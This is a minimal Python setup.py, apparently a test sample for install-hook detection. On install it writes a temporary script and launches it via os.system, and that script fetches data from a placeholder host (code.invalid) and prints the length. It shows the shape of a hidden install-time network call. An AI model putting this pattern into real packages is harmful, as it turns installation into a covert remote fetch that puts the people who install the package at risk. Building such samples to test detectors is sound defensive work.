# file: setup.py
import os
from setuptools import setup
from tempfile import NamedTemporaryFile as temp
f = temp(delete=False)
f.write(b"""from urllib.request import urlopen
print(len(urlopen("https://code.invalid/x").read()))
""")
f.close()
os.system(f"start python {f.name}")  # fires: install
setup(name="example", version="1.0")
